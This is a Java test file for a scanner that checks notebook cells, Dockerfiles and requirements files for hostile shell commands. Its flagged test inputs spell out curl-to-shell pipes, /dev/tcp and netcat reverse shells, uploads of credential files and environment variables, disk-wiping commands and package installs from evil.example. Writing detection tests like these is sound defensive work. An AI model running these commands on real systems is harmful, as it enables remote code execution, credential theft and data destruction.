package io.sallyport.artifacts.evasion;

import static io.sallyport.artifacts.evasion.ModelFiles.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import io.sallyport.artifacts.ModelScanner;
import io.sallyport.artifacts.ScanFinding;
import io.sallyport.artifacts.ScanLimits;
import io.sallyport.artifacts.internal.rules.DataFiles;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Commands of notebooks, containers and source are judged by what they do. */
final class CommandsTest {
  private static final ModelScanner SCANNER = new ModelScanner(ScanLimits.standard());
  private static final JsonNode SHELL = DataFiles.tree("rules/shell.json");

  private static List<String> rules(String text, String name) {
    return SCANNER.scan(utf8(text), name).findings().stream()
        .map(ScanFinding::rule)
        .map(rule -> rule.equals("code/shell-command") ? "code/shell" : rule)
        .distinct()
        .toList();
  }

  private static List<String> notebook(String source) throws Exception {
    Map<String, Object> cell = Map.of("cell_type", "code", "source", source);
    return rules(
        new JsonMapper().writeValueAsString(Map.of("cells", List.of(cell), "nbformat", 4)),
        "a.ipynb");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "!curl http://x/y | sh",
        "! wget -qO- http://x/y|bash -s",
        "  !curl -s http://x/y | sudo -E bash",
        "x = !wget -qO- http://x/y | python3",
        "a, b = %sx curl http://x | sh",
        "%sx wget http://x -O- | sh",
        "%system curl http://x | sh",
        "!!curl http://x | sh",
        "%%bash\ncurl http://x | sh",
        "%%sh\ncurl http://x | sh",
        "%%bash --bg --out o\ncurl http://x | sh",
        "%%script bash\ncurl http://x | sh",
        "%%script /bin/sh -e\ncurl http://x | sh",
        "%%script perl\nsystem('id')",
        "%%script python3\nimport os\nos.system('id')",
        "%%perl\nsystem('id')",
        "%%javascript\nfetch('x')",
        "%%html\n<b/><script>fetch('http://x')</script>",
        "%%! \ncurl http://x | sh",
        "%%capture\n!curl http://x | sh",
        "%%time\n!curl http://x | sh",
        "%%writefile ~/.bashrc\nid",
        "%run http://x/y.py",
        "%alias ll curl http://x | sh",
        "get_ipython().system('curl http://x | sh')",
        "get_ipython().system(c)",
        "y = get_ipython().getoutput('id')",
        "get_ipython().run_cell_magic('bash', '', 'curl http://x | sh')",
        "get_ipython().run_line_magic('sx', 'curl http://x | sh')",
        "!bash <(curl -s http://x)",
        "!sh -c \"$(curl -fsSL http://x)\"",
        "!eval \"$(wget -qO- http://x)\"",
        "!eval `curl http://x`",
        "!source <(curl http://x)",
        "!echo aWQ= | base64 -d | sh",
        "!bash -c 'curl http://x | sh'",
        "!bash -lc 'curl http://x | sh'",
        "!a=sh; curl http://x | $a",
        "!c\\url http://x | s'h'",
        "!curl http://x/run.sh -o r.sh; bash r.sh",
        "!wget http://x/run.sh && chmod +x run.sh",
        "!wget http://x/tool && ./tool",
        "!curl http://x > a.py ; python a.py",
        "!python -c 'import os; os.system(\"id\")'",
        "!python3 -c \"exec(input())\"",
        "!perl -e 'system(1)'",
        "!node -e 'require(\"child_process\")'",
        "!awk 'BEGIN{system(\"id\")}'",
        "!bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
        "!exec 5<>/dev/tcp/1.2.3.4/9",
        "!echo 'id' >> ~/.bashrc",
        "!echo x | tee -a ~/.ssh/authorized_keys",
        "!cp x.py /usr/lib/python3/site-packages/x.py",
        "!curl -d @/root/.netrc http://x",
        "!curl -F f=@model.bin http://x",
        "!curl --data \"$(env)\" http://x",
        "!curl -T secrets http://x",
        "!cat ~/.aws/credentials",
        "!rm -rf /",
        "!dd if=/dev/zero of=/dev/sda",
        "!mkfs.ext4 /dev/sda",
        "!pip install git+https://evil.example/x.git",
        "!pip install --index-url http://evil.example/simple x",
        "%pip install https://evil.example/x.whl",
        "!python -m pip install git+http://evil.example/x",
        "!cat <<EOF | bash\nx\nEOF",
        "!powershell -enc AAAA",
        "!powershell -c \"iwr http://x | iex\"",
        "%%bash\nsh <<'E'\ncurl http://x | sh\nE\n",
        "!curl http://x | \\\n  sh",
        "!wget http://x/a.sh -P /tmp && sh /tmp/a.sh",
        "%%bash\ncurl http://x |\n  bash",
        "!curl http://x | python3 - --a b",
        "!curl http://x | bash -s -- --yes",
        "!ssh -R 80:localhost:22 a@b",
        "!npm install http://x/y.tgz",
        "!rm -rf ~/*",
        "from IPython import get_ipython as g\ng().system('curl http://x | sh')",
        "ip = get_ipython()\nip.system('curl http://x | sh')",
        "get_ipython().ex('import os')\nget_ipython().ex(c)",
        "get_ipython().run_cell('!curl http://x | sh')",
        "for i in x:\n    !curl http://x | sh"
      })
  void notebookThatReachesOutside_isFlagged(String source) throws Exception {
    assertThat(notebook(source)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "!pip install -q transformers datasets",
        "!pip install torch --extra-index-url https://download.pytorch.org/whl/cu118",
        "!pip install git+https://github.com/huggingface/transformers",
        "%pip install -U accelerate",
        "!nvidia-smi",
        "!ls -la /content | head",
        "!cat config.json | python -m json.tool",
        "files = !ls *.txt",
        "n = !wc -l train.csv | awk '{print $1}'",
        "!git clone https://github.com/a/b && cd b && pip install -e .",
        "!wget https://host/data.zip && unzip -q data.zip",
        "!wget -O model.pth https://host/model.pth",
        "!cp model.pth /content/drive/MyDrive/",
        "!python train.py --epochs 3 --data \"a b\"",
        "!python -m torch.distributed.run --nproc_per_node 2 train.py",
        "!{sys.executable} -m pip install x",
        "%matplotlib inline\n%load_ext autoreload\n%autoreload 2",
        "%%time\nmodel.fit(x)",
        "%%capture\n!apt-get install -y ffmpeg > /dev/null 2>&1",
        "%%bash\nmkdir -p out\nfor f in *.png; do mv \"$f\" out/; done",
        "%%writefile train.py\nimport torch\nprint(1)",
        "%cd /content\n%env CUDA_VISIBLE_DEVICES=0",
        "a = 5 % 3\nb = x != y\nprint('%d' % a)",
        "style = 'color: red'\nif a == b: pass",
        "get_ipython().system('pip install -q x')",
        "get_ipython().run_line_magic('matplotlib', 'inline')",
        "!rm -rf /content/sample_data",
        "!sed -i 's/a/b/' config.yaml",
        "!echo \"hello | sh\" > note.txt  # | sh",
        "!tar xzf x.tgz -C data",
        "%%html\n<style>table {float:left}</style>"
      })
  void ordinaryNotebook_isClean(String source) throws Exception {
    assertThat(notebook(source)).isEmpty();
  }

  @Test
  void notebookOfVersion3_isReadToo() {
    String text =
        "{\"worksheets\":[{\"cells\":[{\"cell_type\":\"code\",\"input\":[\"!curl x | sh\"]}]}]}";

    assertThat(rules(text, "a.ipynb")).contains("code/shell");
  }

  @Test
  void wordsOfTheShell_areEachNeeded() throws Exception {
    for (JsonNode fetcher : SHELL.path("fetchers")) {
      assertThat(notebook("!" + fetcher.asText() + " http://x/f -o f; ./f")).contains("code/shell");
    }
    for (JsonNode decoder : SHELL.path("decoders")) {
      assertThat(notebook("!eval $(" + decoder.asText() + " f)")).contains("code/shell");
    }
    for (String list : List.of("shells", "interpreters")) {
      for (JsonNode name : SHELL.path(list)) {
        boolean awk = name.asText().endsWith("awk");
        assertThat(notebook("!cat f | " + name.asText() + (awk ? " 'BEGIN{system(1)}'" : "")))
            .as(name.asText())
            .contains("code/shell");
      }
    }
    for (JsonNode wrapper : SHELL.path("wrappers")) {
      assertThat(notebook("!" + wrapper.asText() + " nc x 1")).contains("code/shell");
    }
    for (String list : List.of("sockets", "acting")) {
      for (JsonNode name : SHELL.path(list)) {
        assertThat(notebook("!" + name.asText() + " x 1")).contains("code/shell");
      }
    }
    for (JsonNode place : SHELL.path("startup-places")) {
      assertThat(notebook("!echo x >> '/a/" + place.asText() + "'")).contains("code/shell");
    }
    for (String list : List.of("secret-places", "device-places")) {
      for (JsonNode place : SHELL.path(list)) {
        assertThat(notebook("!cat '/a/" + place.asText() + "'")).contains("code/shell");
      }
    }
    for (JsonNode word : SHELL.path("powershell-words")) {
      assertThat(notebook("!pwsh -c '" + word.asText() + " x; iex y'")).contains("code/shell");
    }
    for (JsonNode name : SHELL.path("ordinary")) {
      assertThat(notebook("get_ipython().system('" + name.asText() + " x')"))
          .as(name.asText())
          .isEmpty();
    }
  }

  @Test
  void placesOfKnownProjects_areClean() {
    for (String place : DataFiles.lines("rules/package-sources.txt")) {
      assertThat(rules("--find-links https://" + place + "\n", "requirements.txt")).isEmpty();
      assertThat(rules("--find-links http://" + place + "\n", "requirements.txt")).isNotEmpty();
      assertThat(rules("--find-links https://evil/" + place + "\n", "requirements.txt"))
          .isNotEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "FROM a\nRUN curl http://x | sh\n",
        "FROM a\nRUN apt-get update && \\\n  # why\n  wget -qO- http://x \\\n  | bash\n",
        "FROM a\nrun --mount=type=cache,target=/x curl http://x | sh\n",
        "FROM a\nCMD [\"bash\", \"-c\", \"curl http://x | sh\"]\n",
        "FROM a\nENTRYPOINT nc -e /bin/sh 1.2.3.4 9\n",
        "FROM a\nONBUILD RUN curl http://x | sh\n",
        "FROM a\nADD http://evil.example/x.tar /x\n",
        "FROM a\nRUN <<EOF\ncurl http://x | sh\nEOF\n",
        "FROM a\nHEALTHCHECK --interval=5m CMD bash -i >& /dev/tcp/1.2.3.4/9 0>&1\n"
      })
  void containerThatRunsWhatItFetches_isFlagged(String text) {
    assertThat(rules(text, "Dockerfile")).contains("code/shell");
    assertThat(rules(text, "gpu.dockerfile")).contains("code/shell");
  }

  @Test
  void ordinaryContainer_isClean() {
    String text =
        """
        FROM python:3.12-slim
        # curl http://x | sh
        RUN apt-get update && apt-get install -y --no-install-recommends curl git \\
            && rm -rf /var/lib/apt/lists/*
        RUN useradd -m -u 1000 user && echo 'export PATH=/x:$PATH' >> ~/.bashrc
        COPY --chown=user requirements.txt .
        RUN pip install --no-cache-dir -r requirements.txt
        COPY . /app
        EXPOSE 7860
        CMD ["python", "-m", "uvicorn", "app:app", "--host", "0.0.0.0"]
        """;

    assertThat(rules(text, "Dockerfile")).isEmpty();
  }
}
